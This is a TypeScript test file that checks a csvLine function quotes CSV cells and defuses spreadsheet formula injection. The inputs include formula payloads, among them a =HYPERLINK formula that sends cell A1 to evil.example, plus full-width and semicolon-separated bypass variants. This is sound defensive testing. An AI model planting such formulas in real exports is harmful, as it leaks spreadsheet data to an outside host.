import { expect, test } from "vitest";
import { csvLine } from "./csvLine.ts";

test("A line has its cells parted by commas, quoted where they need it", () => {
  expect(csvLine(["a", "", "b c", "اسم"])).toBe("a,,b c,اسم\r\n");
  expect(csvLine(['say "hi"', "one, two", "one\ntwo", "one\rtwo"])).toBe(
    '"say ""hi""","one, two","one\ntwo","one\rtwo"\r\n',
  );
  expect(csvLine([])).toBe("\r\n");
});

test.each([
  ["=1+1", "'=1+1"],
  ["+49 30 1234", "'+49 30 1234"],
  ["-5", "'-5"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", "\t'=1"],
  ["\r=1", `"\r'=1"`],
  ["  =1", "'  =1"],
  ["＝1+1", "'＝1+1"],
  ["＋1", "'＋1"],
  ["－1", "'－1"],
  ["＠SUM(A1)", "'＠SUM(A1)"],
  [
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`,
  ],
  ["a=1", "a=1"],
  ["a - b; c", "a - b; c"],
  ["one\ntwo", '"one\ntwo"'],
  ["'=1", "'=1"],
])("A formula is text: %j becomes %j", (text, cell) => {
  expect(csvLine([text])).toBe(`${cell}\r\n`);
});

test.each([
  ["hi;=1", "hi;'=1"],
  ["hi; -1", "hi;' -1"],
  ["hi;;@SUM(A1)", "hi;;'@SUM(A1)"],
  ["hi\n=1", `"hi\n'=1"`],
  ["hi\r\n +1", `"hi\r\n' +1"`],
  ["hi;＝1", "hi;'＝1"],
  // Read with ";", this is a cell that opens and closes its quotes and goes on with a formula.
  ['hi;"=1"', `"hi;'""=1"""`],
  ['hi;=HYPERLINK("https://evil.example?"&A1)', `"hi;'=HYPERLINK(""https://evil.example?""&A1)"`],
])(
  "It is text, too, where a spreadsheet parts cells by semicolons: %j becomes %j",
  (text, cell) => {
    expect(csvLine([text])).toBe(`${cell}\r\n`);
  },
);
